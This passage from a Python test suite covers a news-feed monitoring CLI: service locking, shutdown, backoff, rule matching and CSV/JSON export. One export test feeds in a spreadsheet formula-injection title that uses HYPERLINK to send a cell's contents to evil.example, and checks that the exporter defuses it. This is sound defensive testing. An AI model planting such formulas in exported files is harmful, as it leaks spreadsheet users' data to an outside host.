        time.sleep(0.05)


def article_count(database: Path) -> int:
    if not database.exists():
        return 0
    try:
        with sqlite3.connect(database) as conn:
            return conn.execute("SELECT count(*) FROM articles").fetchone()[0]
    except sqlite3.OperationalError:  # not migrated yet
        return 0


@pytest.fixture
def running_service(feed_config: Path, tmp_path: Path) -> Iterator[tuple[subprocess.Popen, Path]]:
    """`vigie run` in a subprocess, up and holding its database lock."""
    log = tmp_path / "run.log"
    lock = tmp_path / "data" / "vigie.db.lock"
    with log.open("w") as stderr:
        process = subprocess.Popen(
            [sys.executable, str(REPO / "service.py"), "run", "--config", str(feed_config)],
            cwd=REPO,
            stdout=subprocess.DEVNULL,
            stderr=stderr,
        )
    try:
        wait_for(lambda: lock.exists() and lock.read_text().strip() != "", "the lock", log)
        wait_for(lambda: "vigie running" in log.read_text(), "the service to start", log)
        yield process, log
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()


def test_run_polls_and_stops_cleanly_on_sigterm(
    running_service: tuple[subprocess.Popen, Path], tmp_path: Path
) -> None:
    process, log = running_service
    database = tmp_path / "data" / "vigie.db"
    wait_for(lambda: article_count(database) == RSS_ITEMS, "the first poll", log)
    time.sleep(1.5)  # a few more ticks of the 1s poll job
    process.send_signal(signal.SIGTERM)
    assert process.wait(timeout=30) == 0, log.read_text()
    assert "stopping" in log.read_text()
    assert "Traceback" not in log.read_text()
    # APScheduler's two INFO lines per job run, every tick, are left out without --verbose.
    assert "Running job" not in log.read_text() and "executed successfully" not in log.read_text()


def test_verbose_adds_the_quiet_cycles_not_other_libraries_debug_lines(
    server: LoopbackServer, write_config: Callable[..., Path], tmp_path: Path
) -> None:
    """--verbose flooded the log with APScheduler's "Looking for jobs to run" and tzlocal's
    /etc/timezone, two or three lines a second, where it is said to add the quiet cycles."""
    server.route("/coastal.rss", RSS, etag='"c1"')
    config = write_config([{"url": server.url("/coastal.rss"), "interval": "1s"}])
    log = tmp_path / "run.log"
    with log.open("w") as stderr:
        process = subprocess.Popen(
            [sys.executable, str(REPO / "service.py"), "run", "--verbose", "--config", str(config)],
            cwd=REPO,
            stdout=subprocess.DEVNULL,
            stderr=stderr,
        )
    try:
        quiet = "polled 1 feed: 0 new articles, 0 updated, 0 new matches, 0 errors"
        wait_for(lambda: quiet in log.read_text(), "a quiet cycle", log)
        process.send_signal(signal.SIGTERM)
        assert process.wait(timeout=30) == 0, log.read_text()
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
    lines = log.read_text().splitlines()
    assert any(" DEBUG monitor.scheduler: " + quiet in line for line in lines)
    others = [line for line in lines if " DEBUG " in line and " DEBUG monitor." not in line]
    assert others == []
    assert "Looking for jobs to run" not in log.read_text()
    assert "Running job" not in log.read_text()  # two lines per job run, every 5 s tick


def test_second_service_on_the_same_database_is_refused(
    running_service: tuple[subprocess.Popen, Path], feed_config: Path
) -> None:
    process, log = running_service
    second = service_py("run", "--config", feed_config)
    line = assert_one_line_error(second, "already in use", f"pid {process.pid}")
    assert "vigie.db" in line
    once = vigie("once", "--config", feed_config)
    assert_one_line_error(once, "already in use")
    assert process.poll() is None  # the first one is unharmed
    process.send_signal(signal.SIGTERM)
    assert process.wait(timeout=30) == 0, log.read_text()


def test_feeds_list_beside_a_running_service_neither_waits_nor_applies_config_edits(
    feed_config: Path, server: LoopbackServer
) -> None:
    """Run beside `vigie run` in the middle of storing a poll, `feeds list` synced config.toml
    into the database: it waited for the service's write lock (a 'database is locked'
    traceback after 5 s), and the service started polling feeds edited into config.toml
    since it started, or stopped polling removed ones, at that moment."""
    database = stored_database(feed_config)
    assert vigie("feeds", "list", "--config", feed_config).exit_code == 0
    server.route("/new.rss", RSS)
    text = feed_config.read_text(encoding="utf-8")
    feed_config.write_text(
        text + f'\n[[feeds]]\nurl = "{server.url("/new.rss")}"\nname = "New"\n', "utf-8"
    )
    polling = sqlite3.connect(database, isolation_level=None)
    with database_lock(database):
        polling.execute("BEGIN IMMEDIATE")  # the service, storing a feed's articles
        started = time.monotonic()
        listed = vigie("feeds", "list", "--json", "--config", feed_config)
        assert time.monotonic() - started < 4  # the busy timeout is 5 s
        polling.execute("ROLLBACK")
    polling.close()
    assert listed.exit_code == 0, listed.output
    assert [r["name"] for r in json.loads(listed.stdout)] == ["Coastal"]
    assert (
        f"note: {server.url('/new.rss')}: listed in config.toml, polled once the running "
        "service restarts"
    ) in listed.stderr
    after = json.loads(vigie("feeds", "list", "--json", "--config", feed_config).stdout)
    assert [r["name"] for r in after] == ["Coastal", "New"]  # no service: config.toml applies


def test_a_write_that_waits_too_long_for_the_database_is_a_one_line_error(
    feed_config: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Beside a process holding the write lock past the wait (shortened here), a command that
    writes failed with a sqlite3 traceback."""
    import monitor.store.database

    stored_database(feed_config)
    monkeypatch.setattr(monitor.store.database, "WRITE_WAIT", 0.3)
    holder = sqlite3.connect(feed_config.parent / "data" / "vigie.db", isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    try:
        result = vigie("feeds", "add", "https://news.example.org/rss", "--config", feed_config)
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert_one_line_error(
        result, "the database stayed busy (another process holds its write lock", "nothing was"
    )


def test_once_leaves_alone_a_feed_whose_server_asked_for_time(
    server: LoopbackServer, write_config: Callable[..., Path]
) -> None:
    """Run from cron, `once` polled every feed at every run, a 429 with Retry-After too: the
    server asked for ten minutes and got a request a minute. A feed that failed otherwise is
    polled again (the operator may have mended it)."""
    server.route("/good.rss", RSS)
    server.route("/busy.rss", b"slow down", status=429, headers={"Retry-After": "600"})
    server.route("/down.rss", b"", status=503)  # no Retry-After: the server asked nothing
    server.route("/gone.rss", b"", status=410)  # asked again once per max_backoff
    config = write_config([server.url(f"/{name}.rss") for name in ("good", "busy", "down", "gone")])
    first = vigie("once", "--config", config)
    assert "Polled 4 feeds" in first.stdout and "3 errors." in first.stdout
    second = vigie("once", "--config", config)
    assert "Polled 2 feeds" in second.stdout and "1 error." in second.stdout, second.stdout
    # Its time as deliveries' retry times are written, not 2026-12-05T07:43:51+00:00.
    assert re.search(
        rf"not polled {re.escape(server.url('/busy.rss'))}: its server asked for time, until "
        r"\d{4}-\d\d-\d\d \d\d:\d\d UTC \(HTTP 429",
        second.stdout,
    ), second.stdout
    # A 410 was said to be a server asking for time.
    assert re.search(
        rf"not polled {re.escape(server.url('/gone.rss'))}: gone, asked again from "
        r"\d{4}-\d\d-\d\d \d\d:\d\d UTC \(HTTP 410 Gone",
        second.stdout,
    ), second.stdout
    assert len(server.requests_to("/busy.rss")) == 1
    assert len(server.requests_to("/down.rss")) == 2


def test_a_feed_added_by_hand_and_moved_is_still_found_under_the_address_it_was_added_with(
    server: LoopbackServer, write_config: Callable[..., Path], tmp_path: Path
) -> None:
    """After a 301 moved it, `feeds add` or an import of the old address made a second feed,
    polled through the redirect at every interval, and `feeds remove` said there was none."""
    server.redirect("/old.rss", "/new.rss", status=301)
    server.route("/new.rss", RSS)
    config = write_config([])
    old = server.url("/old.rss")
    assert vigie("feeds", "add", old, "--config", config).exit_code == 0
    assert f"{RSS_ITEMS} new articles" in vigie("once", "--config", config).stdout
    assert listed_urls(config) == [server.url("/new.rss")]
    assert vigie("feeds", "add", old, "--config", config).exit_code == 0
    opml = tmp_path / "feeds.opml"
    opml.write_text(f'<opml version="2.0"><body><outline text="O" xmlUrl="{old}"/></body></opml>')
    imported = vigie("feeds", "import", opml, "--config", config)
    assert "Imported 0 new feeds" in imported.stdout and "1 already known" in imported.stdout
    assert listed_urls(config) == [server.url("/new.rss")]
    removed = vigie("feeds", "remove", old, "--config", config)
    assert removed.exit_code == 0, removed.output
    assert listed_urls(config) == []


def test_sigterm_during_a_long_poll_stops_after_the_feeds_in_hand(
    server: LoopbackServer, write_config: Callable[..., Path], tmp_path: Path
) -> None:
    """The service finished the whole cycle before stopping: with thousands of feeds that
    outlasts systemd's stop timeout. The feeds not stored yet stay due for the next start."""
    urls = []
    for i in range(20):
        server.route(f"/slow{i}.rss", RSS, delay=1.0)
        urls.append(server.url(f"/slow{i}.rss"))
    config = write_config(urls, fetch={"concurrency": 2}, polling={"processes": 0})
    log = tmp_path / "run.log"
    database = tmp_path / "data" / "vigie.db"
    with running(config, log, "run") as process:
        wait_for(lambda: article_count(database) > 0, "the first feeds stored", log)
        started = time.monotonic()
        stop(process, log)
        stopped_in = time.monotonic() - started
    assert stopped_in < 5, f"took {stopped_in:.1f}s; the cycle needs ~10s"  # not the whole cycle
    with sqlite3.connect(database) as db:
        [(polled,)] = db.execute("SELECT count(*) FROM feeds WHERE last_polled IS NOT NULL")
    assert 0 < polled < 20
    assert "Traceback" not in log.read_text()
    # The 1 s tick found the poll running, time after time: expected, not worth a warning.
    assert "maximum number of running instances" not in log.read_text()
    assert "Adding job tentatively" not in log.read_text()  # four lines at every start
    assert "Added job" not in log.read_text()  # and four more


def test_the_service_stops_when_its_database_file_is_deleted(
    server: LoopbackServer, write_config: Callable[..., Path], tmp_path: Path
) -> None:
    """Deleted under a running service, the database went on taking articles and deliveries
    into a file no one could read; a restart then sent everything again under new ids."""
    server.route("/feed.rss", RSS)
    config = write_config([server.url("/feed.rss")], polling={"processes": 0})
    log = tmp_path / "run.log"
    database = tmp_path / "data" / "vigie.db"
    with running(config, log, "run") as process:
        wait_for(lambda: article_count(database) > 0, "the feed stored", log)
        for path in database.parent.glob("vigie.db*"):
            if not path.name.endswith(".lock"):
                path.unlink()
        assert process.wait(timeout=30) == 1, log.read_text()
    text = log.read_text()
    assert "was deleted or replaced while the service ran: stopping" in text
    [error] = [line for line in text.splitlines() if line.startswith("error: ")]
    assert "deleted or replaced while the service ran" in error and "Traceback" not in text


def test_a_command_only_looks_at_the_service_lock_and_never_holds_it(tmp_path: Path) -> None:
    """`feeds list` held the service's lock while it synced config.toml (seconds, with
    thousands of feeds): a `once` from cron, or `vigie run`, starting then was refused as if
    a service ran, and `digest send` said "Queued" with no service to send it."""
    from monitor.scheduler import service_running

    database = tmp_path / "data" / "vigie.db"
    assert not service_running(database)  # never run here: no lock file
    with database_lock(database):
        assert service_running(database)
    assert not service_running(database)
    with database_lock(database):  # the look left it free
        pass


def test_rules_scoped_to_a_feed_match_its_copies_of_articles_another_feed_brought(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """An untagged feed polled first stored the article; the `fr` section's copy of it became an
    alias, and the rules scoped to `feed_tags = ["fr"]` or to that feed never ran on it: whether
    they matched depended on which feed was polled first. A later revision from the first feed
    must not withdraw them either."""
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "scoped.toml").write_text(
        '[[rule]]\nid = "fr-calais"\nquery = "Calais"\nfeed_tags = ["fr"]\n\n'
        '[[rule]]\nid = "monde-calais"\nquery = "Calais"\nfeeds = ["Le Monde section"]\n\n'
        '[[rule]]\nid = "by-feed"\nquery = \'feed:"monde section" AND Calais\'\n',
        encoding="utf-8",
    )

    def feed(path: Path, title: str) -> None:
        path.write_text(
            '<rss version="2.0"><channel><title>Any</title><item>'
            f"<title>{title}</title><link>https://news.example/calais-camp</link>"
            "<guid>https://news.example/calais-camp</guid>"
            "<description>Tents near Calais were cleared at dawn.</description>"
            "</item></channel></rss>",
            encoding="utf-8",
        )

    everything, section = tmp_path / "all.rss", tmp_path / "fr.rss"
    feed(everything, "Camp cleared")
    feed(section, "Camp cleared")
    only_first = write_config(
        [{"url": str(everything), "name": "Everything"}], rules={"paths": [str(rules)]}
    )
    assert vigie("once", "--config", only_first).exit_code == 0
    both = write_config(
        [
            {"url": str(everything), "name": "Everything"},
            {"url": str(section), "name": "Le Monde section", "tags": ["fr"]},
        ],
        rules={"paths": [str(rules)]},
    )
    polled = vigie("once", "--config", both)
    assert polled.exit_code == 0, polled.output
    assert "0 new articles" in polled.stdout and "3 new matches" in polled.stdout, polled.stdout
    database = tmp_path / "data" / "vigie.db"

    def holding() -> list[str]:
        with sqlite3.connect(database) as db:
            return [
                rule
                for (rule,) in db.execute(
                    "SELECT rule_id FROM matches WHERE withdrawn_revision IS NULL ORDER BY 1"
                )
            ]

    assert holding() == ["by-feed", "fr-calais", "monde-calais"]
    feed(everything, "Camp cleared, families moved")  # a revision, from the first feed
    assert "1 updated" in vigie("once", "--config", both).stdout
    assert holding() == ["by-feed", "fr-calais", "monde-calais"]
    # backtest matches stored articles as polling did: nothing to add or remove.
    report = json.loads(vigie("rules", "backtest", "--json", "--config", both).stdout)
    assert {r["rule_id"]: (r["added"], r["removed"]) for r in report} == {
        rule: ([], []) for rule in ("by-feed", "fr-calais", "monde-calais")
    }


def test_a_feed_carrying_a_stored_article_adds_only_the_rules_it_scopes(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """When a second feed carried a stored article, every rule was tried again as it stood:
    a rule edited since (no backtest applied) was withdrawn at the revision it had matched, and
    a new unscoped rule matched the old article and was delivered as new."""
    rules = tmp_path / "rules"
    rules.mkdir()
    topics = rules / "topics.toml"
    topics.write_text('[[rule]]\nid = "rescue"\nquery = "rescued"\n', encoding="utf-8")
    item = (
        "<item><title>Boat rescue</title><link>https://news.example/rescue</link>"
        "<description>Forty people were rescued off Gravelines.</description></item>"
    )
    first, second = tmp_path / "a.rss", tmp_path / "b.rss"
    for path in (first, second):
        path.write_text(f'<rss version="2.0"><channel><title>Any</title>{item}</channel></rss>')
    feeds = [{"url": str(first), "name": "A"}]
    vigie("once", "--config", write_config(feeds, rules={"paths": [str(rules)]}))
    topics.write_text(
        '[[rule]]\nid = "rescue"\nquery = "rescued AND helicopter"\n\n'
        '[[rule]]\nid = "gravelines"\nquery = "Gravelines"\n\n'
        '[[rule]]\nid = "from-b"\nquery = "rescued"\nfeeds = ["B"]\n',
        encoding="utf-8",
    )
    feeds.append({"url": str(second), "name": "B"})
    polled = vigie("once", "--config", write_config(feeds, rules={"paths": [str(rules)]}))
    assert "1 new match" in polled.stdout, polled.stdout
    with sqlite3.connect(tmp_path / "data" / "vigie.db") as db:
        rows = db.execute("SELECT rule_id, withdrawn_revision FROM matches ORDER BY 1").fetchall()
    assert rows == [("from-b", None), ("rescue", None)]


def test_articles_export_writes_the_matched_articles_with_their_words_and_outlets(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """A researcher's review: getting what matched over a period, with the words and the
    outlets, took SQL. The export gives it as JSON Lines or CSV, by publication date."""
    item = (
        "<item><title>Camp cleared near Calais</title><link>https://news.example/camp</link>"
        "<pubDate>Tue, 10 Nov 2026 08:00:00 GMT</pubDate>"
        "<description>Police cleared tents near Calais at dawn.</description></item>"
    )
    older = (
        "<item><title>Calais harbour reopens</title><link>https://news.example/harbour</link>"
        "<pubDate>Thu, 01 Oct 2026 08:00:00 GMT</pubDate>"
        "<description>Ferries sail from Calais again.</description></item>"
    )
    (tmp_path / "main.rss").write_text(
        f'<rss version="2.0"><channel><title>Main</title>{item}{older}</channel></rss>'
    )
    (tmp_path / "section.rss").write_text(
        f'<rss version="2.0"><channel><title>Section</title>{item}</channel></rss>'
    )
    config = write_config(
        [str(tmp_path / "main.rss"), str(tmp_path / "section.rss")],
        rules={"paths": [str(REPO / "rules")]},
    )
    vigie("once", "--config", config)
    export = ("articles", "export", "--config", config)

    lines = vigie(*export, "--since", "2026-11-01", "--until", "2026-11-11").stdout.splitlines()
    [camp] = [json.loads(line) for line in lines]
    assert camp["title"] == "Camp cleared near Calais" and camp["dated"] is True
    assert camp["published"].startswith("2026-11-10T08:00:00")
    assert {camp["feed"], *camp["outlets"]} == {"Main", "Section"}  # one article, two outlets
    by_rule = {m["rule_id"]: m for m in camp["matches"]}
    assert "calais" in by_rule and by_rule["calais"]["tags"] == ["calais"]
    calais = by_rule["calais"]
    assert "Calais" in {e["text"] for e in calais["evidence"]}
    [(start, end), *_] = calais["highlights"]  # the snippet's marked words, as webhooks give
    assert calais["snippet"][start:end].lower() in {e["text"].lower() for e in calais["evidence"]}

    everything = vigie(*export, "--since", "0").stdout.splitlines()
    assert [json.loads(line)["title"] for line in everything] == [
        "Calais harbour reopens",
        "Camp cleared near Calais",
    ]  # in publication order
    rows = list(csv.DictReader(io.StringIO(vigie(*export, "--since", "0", "--format", "csv",
                                                 "--tag", "calais").stdout)))  # fmt: skip
    assert [(r["title"], r["rule_id"]) for r in rows] == [
        ("Calais harbour reopens", "calais"),
        ("Camp cleared near Calais", "calais"),
    ]
    assert "Calais" in rows[1]["words"].split("; ") and rows[1]["outlets"] in {"Main", "Section"}
    nothing = vigie(*export, "--since", "2026-12-01", "--until", "2026-12-02")
    assert nothing.exit_code == 0 and nothing.stdout == ""
    assert "0 articles, 0 matches exported" in nothing.stderr
    wrong = vigie(*export, "--since", "last week")
    assert wrong.exit_code != 0 and "--since" in wrong.output and "Traceback" not in wrong.output


def test_articles_export_by_feed_and_language(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """A researcher's review: an export could not be narrowed to one outlet or one language.
    A feed's own articles and its copies of others' count; a language code takes its regions."""
    item = (
        "<item><title>Camp cleared near Calais</title><link>https://news.example/camp</link>"
        "<description>Police cleared tents near Calais at dawn.</description></item>"
    )
    only_main = (
        "<item><title>Calais harbour reopens</title><link>https://news.example/harbour</link>"
        "<description>Ferries sail from Calais again.</description></item>"
    )
    french = (
        "<item><title>Calais : un camp évacué</title><link>https://actu.example/camp</link>"
        "<description>Les exilés ont été évacués du camp de Calais.</description></item>"
    )
    for name, title, items, language in [
        ("main.rss", "Main", item + only_main, "en"),
        ("section.rss", "Section", item, "en"),
        ("actu.rss", "Actu", french, "fr-FR"),
    ]:
        (tmp_path / name).write_text(
            f'<rss version="2.0"><channel><title>{title}</title><language>{language}</language>'
            f"{items}</channel></rss>"
        )
    feeds = [str(tmp_path / name) for name in ("main.rss", "section.rss", "actu.rss")]
    config = write_config(feeds, rules={"paths": [str(REPO / "rules")]})
    vigie("once", "--config", config)
    export = ("articles", "export", "--since", "0", "--config", config)

    def titles(*options: str) -> set[str]:
        result = vigie(*export, *options)
        assert result.exit_code == 0, result.output
        return {json.loads(line)["title"] for line in result.stdout.splitlines()}

    assert titles() == {
        "Camp cleared near Calais",
        "Calais harbour reopens",
        "Calais : un camp évacué",
    }
    assert titles("--feed", "Section") == {"Camp cleared near Calais"}  # its copy of Main's
    assert titles("--feed", "Main") == {"Camp cleared near Calais", "Calais harbour reopens"}
    assert titles("--feed", "Section", "--feed", "Actu") == {
        "Camp cleared near Calais",
        "Calais : un camp évacué",
    }
    assert titles("--language", "fr") == {"Calais : un camp évacué"}
    assert titles("--language", "fr", "--feed", "Main") == set()
    misspelt = vigie(*export, "--feed", "Mian")
    assert_one_line_error(misspelt, "--feed 'Mian': no stored feed", "did you mean 'Main'?")


def test_a_feed_given_as_config_toml_writes_it_is_found(
    tmp_path: Path, write_config: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A researcher's review: `articles export --feed samples/feeds/x.atom`, the feed as
    config.toml wrote it (a path relative to config.toml), was "no stored feed", while the
    file:// URL stored for it worked; from another folder, `rules test --feed` and `feeds
    remove` did not know it either."""
    (tmp_path / "feeds").mkdir()
    (tmp_path / "feeds" / "main.rss").write_text(
        '<rss version="2.0"><channel><title>Main</title>'
        "<item><title>Camp cleared near Calais</title><link>https://news.example/camp</link>"
        "<description>Police cleared tents near Calais at dawn.</description></item>"
        "</channel></rss>"
    )
    config = write_config(
        [{"url": "feeds/main.rss", "name": "Main", "tags": ["north"]}],
        rules={"paths": [str(REPO / "rules")]},
    )
    assert vigie("once", "--config", config).exit_code == 0
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    for folder in (tmp_path, elsewhere):  # the config's folder, and another
        monkeypatch.chdir(folder)
        export = vigie("articles", "export", "--since", "0", "--feed", "feeds/main.rss",
                       "--config", config)  # fmt: skip
        assert export.exit_code == 0, export.output
        [article] = [json.loads(line) for line in export.stdout.splitlines()]
        assert article["title"] == "Camp cleared near Calais"

        tried = vigie("rules", "test", "--text", "Calais", "--feed", "feeds/main.rss",
                      "--config", config)  # fmt: skip
        assert "tried as items of feed 'Main' (tags: north)" in tried.stderr, tried.output

        removed = vigie("feeds", "remove", "feeds/main.rss", "--config", config)
        assert_one_line_error(removed, "is listed in", "delete it there to stop polling it")
    unknown = vigie("articles", "export", "--feed", "feeds/other.rss", "--config", config)
    assert_one_line_error(unknown, "--feed 'feeds/other.rss': no stored feed")


def test_a_relative_path_is_first_the_current_folders_as_feeds_add_reads_it(
    tmp_path: Path, write_config: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    """`feeds add feeds/main.rss` from a folder of one's own, with a config.toml elsewhere that
    lists its own feeds/main.rss: `feeds remove feeds/main.rss`, from the same folder, refused
    ("listed in config.toml: delete it there"), the path read first beside config.toml, and
    `--feed feeds/main.rss` chose config.toml's feed (its articles, its tags for `rules test`),
    not the one the path names from here."""
    body = (
        '<rss version="2.0"><channel><title>{0}</title><item><title>{0}: camp cleared near'
        " Calais</title><link>https://news.example/{0}</link><description>Police cleared tents"
        " near Calais at dawn.</description></item></channel></rss>"
    )
    own = tmp_path / "own"
    for folder, title in ((tmp_path, "Listed"), (own, "Added")):
        (folder / "feeds").mkdir(parents=True)
        (folder / "feeds" / "main.rss").write_text(body.format(title), encoding="utf-8")
    listed = {"url": "feeds/main.rss", "name": "Listed", "tags": ["north"]}
    config = write_config([listed], rules={"paths": [str(REPO / "rules")]})
    monkeypatch.chdir(own)
    added = ("feeds", "add", "feeds/main.rss", "--name", "Added", "--tag", "south")
    assert vigie(*added, "--config", config).exit_code == 0
    assert vigie("once", "--config", config).exit_code == 0
    tried = vigie("rules", "test", "--text", "Calais", "--feed", "feeds/main.rss",
                  "--config", config)  # fmt: skip
    assert "tried as items of feed 'Added' (tags: south)" in tried.stderr, tried.output
    export = vigie("articles", "export", "--since", "0", "--feed", "feeds/main.rss",
                   "--config", config)  # fmt: skip
    assert [json.loads(line)["title"] for line in export.stdout.splitlines()] == [
        "Added: camp cleared near Calais"
    ]
    removed = vigie("feeds", "remove", "feeds/main.rss", "--config", config)
    assert removed.exit_code == 0 and "retired" in removed.stdout, removed.output
    assert own.joinpath("feeds", "main.rss").as_uri() in removed.stdout


def test_articles_export_says_which_revision_a_withdrawn_match_quotes(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """A researcher's review: with --withdrawn, a match undone by a correction came with
    evidence whose offsets were in the earlier revision's headline, beside the corrected one,
    and nothing said so: title[start:end] gave other words. Each match now names the
    revision its evidence and snippet quote, as the database's `evidence_revision` does."""
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "topics.toml").write_text('[[rule]]\nid = "zebra"\nquery = "zebra"\n')
    feed = tmp_path / "f.rss"

    def publish(title: str) -> None:
        feed.write_text(
            f'<rss version="2.0"><channel><title>Zoo news</title><item><title>{title}</title>'
            "<guid>z1</guid><link>https://news.example/zoo</link>"
            "<description>An animal left its enclosure at dawn.</description></item>"
            "</channel></rss>"
        )

    config = write_config([str(feed)], rules={"paths": [str(rules)]})
    publish("Zebra escapes from the zoo")
    vigie("once", "--config", config)
    publish("Correction: a lemur escapes from the zoo")
    vigie("once", "--config", config)

    export = ("articles", "export", "--since", "0", "--withdrawn", "--config", config)
    [line] = vigie(*export).stdout.splitlines()
    article = json.loads(line)
    [match] = article["matches"]
    assert article["revision"] == 2 and match["withdrawn_revision"] == 2
    assert match["evidence_revision"] == 1
    [evidence] = match["evidence"]
    assert "Zebra escapes from the zoo"[evidence["start"] : evidence["end"]] == evidence["text"]
    shown = vigie("articles", "show", str(article["id"]), "--config", config).stdout
    assert "the words below are revision 1's" in " ".join(shown.split())


@pytest.mark.parametrize("output_format", ["csv", "jsonl"])
def test_articles_export_is_utf8_whatever_the_terminal_encoding(
    tmp_path: Path, write_config: Callable[..., Path], output_format: str
) -> None:
    """A researcher's review: with a standard output that is not UTF-8 (Windows writes a
    redirected one in its code page; PYTHONIOENCODING), the export of French articles
    stopped at the first "…" or "œ" with a UnicodeEncodeError traceback, leaving half a file."""
    (tmp_path / "f.rss").write_text(
        '<rss version="2.0"><channel><title>Nord Actu</title><item>'
        "<title>Des policiers évacuent un camp à Calais… le cœur serré</title>"
        "<link>https://news.example/camp</link>"
        "<description>Les forces de l’ordre ont démantelé le camp.</description>"
        "</item></channel></rss>",
        encoding="utf-8",
    )
    config = write_config([str(tmp_path / "f.rss")], rules={"paths": [str(REPO / "rules")]})
    vigie("once", "--config", config)
    export = ["articles", "export", "--since", "0", "--format", output_format, "--config"]
    result = CliRunner(charset="latin-1").invoke(main, [*export, str(config)])
    assert result.exit_code == 0, result.output
    text = result.stdout_bytes.decode("utf-8")
    assert "Des policiers évacuent un camp à Calais… le cœur serré" in (
        text if output_format == "csv" else json.loads(text.splitlines()[0])["title"]
    )


def test_articles_export_csv_for_excel_starts_with_a_byte_order_mark(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """A researcher's review: Excel opens a CSV file without a byte order mark in the
    computer's code page, so every accent of the French articles came out garbled (é as
    Ã©). `--excel` writes the mark; without it the file is plain UTF-8 for programs."""
    (tmp_path / "f.rss").write_text(
        '<rss version="2.0"><channel><title>Nord Actu</title><item>'
        "<title>Des policiers évacuent un camp à Calais</title>"
        "<link>https://news.example/camp</link>"
        "<description>Les forces de l’ordre ont démantelé le camp.</description>"
        "</item></channel></rss>",
        encoding="utf-8",
    )
    config = write_config([str(tmp_path / "f.rss")], rules={"paths": [str(REPO / "rules")]})
    vigie("once", "--config", config)
    export = ("articles", "export", "--since", "0", "--format", "csv", "--config", config)
    excel = vigie(*export, "--excel").stdout_bytes
    assert excel.startswith(b"\xef\xbb\xbfarticle_id,")
    rows = list(csv.DictReader(io.StringIO(excel.decode("utf-8-sig"))))
    assert rows and rows[0]["title"] == "Des policiers évacuent un camp à Calais"
    assert vigie(*export).stdout_bytes.startswith(b"article_id,")  # programs: no mark
    jsonl = vigie("articles", "export", "--excel", "--config", config)
    assert_one_line_error(jsonl, "--excel", "--format csv")


def test_an_edit_that_moves_the_date_keeps_the_first_publication_date(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """A researcher's review, replaying the BBC's feed: its edits move an item's pubDate
    (August 5, then 11, 24, 27, September 2), and `articles.published` followed, so the day
    an article first came out was lost and a timeline counted it weeks late. Each revision
    keeps its date, and docs/database.md's query gives the first one."""
    feed = tmp_path / "f.rss"

    def publish(title: str, date: str) -> None:
        feed.write_text(
            f'<rss version="2.0"><channel><title>News</title><item><title>{title}</title>'
            f"<guid>s1</guid><link>https://news.example/schools</link><pubDate>{date}</pubDate>"
            "<description>Police and migrants in Calais: what schools will do.</description>"
            "</item></channel></rss>"
        )

    config = write_config([str(feed)], rules={"paths": [str(REPO / "rules")]})
    publish("How will schools reopen in September?", "Wed, 05 Aug 2020 12:04:16 GMT")
    vigie("once", "--config", config)
    publish("What will schools do if children get ill?", "Wed, 02 Sep 2020 15:09:50 GMT")
    vigie("once", "--config", config)

    doc = (REPO / "docs" / "database.md").read_text(encoding="utf-8")
    [query] = [q for q in re.findall(r"```sql\n(.*?)```", doc, re.S) if "latest_published" in q]
    with sqlite3.connect(tmp_path / "data" / "vigie.db") as db:
        dates = db.execute("SELECT revision, published FROM revisions ORDER BY 1").fetchall()
        [(_, title, first, latest)] = db.execute(query).fetchall()
    assert dates == [(1, "2020-08-05T12:04:16+00:00"), (2, "2020-09-02T15:09:50+00:00")]
    assert title.startswith("What will schools do") and latest.startswith("2020-09-02")
    assert first == "2020-08-05T12:04:16+00:00"


def test_articles_export_warns_of_a_rule_or_tag_no_match_has(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """A researcher's review: `--tag Calais` (the tag is `calais`) or a mistyped rule exported
    nothing, silently, as if nothing had matched in the period."""
    (tmp_path / "f.rss").write_text(
        '<rss version="2.0"><channel><title>News</title><item><title>Camp cleared</title>'
        "<link>https://news.example/camp</link>"
        "<description>Police cleared tents near Calais.</description></item></channel></rss>"
    )
    config = write_config([str(tmp_path / "f.rss")], rules={"paths": [str(REPO / "rules")]})
    vigie("once", "--config", config)
    export = ("articles", "export", "--since", "0", "--config", config)
    wrong = vigie(*export, "--tag", "Calais", "--rule", "calias")
    assert wrong.exit_code == 0 and wrong.stdout == ""
    assert "warning: no stored match has tag 'Calais'" in wrong.stderr
    assert "warning: no stored match has rule 'calias'" in wrong.stderr
    right = vigie(*export, "--tag", "calais", "--rule", "calais")
    assert right.stdout and "warning" not in right.stderr


def test_articles_export_csv_cells_from_a_feed_are_never_formulas(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """A code review: a feed's title "=HYPERLINK(...)" came out as a formula cell, which a
    spreadsheet runs when the export is opened."""
    from html import escape

    title = '=HYPERLINK("https://evil.example/?"&A1,"Police in Calais")'
    (tmp_path / "f.rss").write_text(
        f'<rss version="2.0"><channel><title>@feed</title><item><title>{escape(title)}</title>'
        "<link>https://news.example/x</link><description>Police cleared a camp in Calais."
        "</description></item></channel></rss>"
    )
    config = write_config([str(tmp_path / "f.rss")], rules={"paths": [str(REPO / "rules")]})
    vigie("once", "--config", config)
    exported = vigie("articles", "export", "--since", "0", "--format", "csv", "--config", config)
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert rows and all(r["title"] == "'" + title for r in rows)
    assert all(r["feed"] == "'@feed" for r in rows)
    assert all(not value.startswith(("=", "+", "-", "@")) for r in rows for value in r.values())


def test_articles_export_and_show_name_an_untitled_feed_by_its_host_not_its_key(
    server: LoopbackServer, write_config: Callable[..., Path]
) -> None:
    """A researcher's review: a feed without a title and without a name (a private feed of an
    NGO partner) was an empty `feed` cell in the export and an empty outlet in `articles show`:
    who published the article was lost. Its address's host names it, never the address, whose
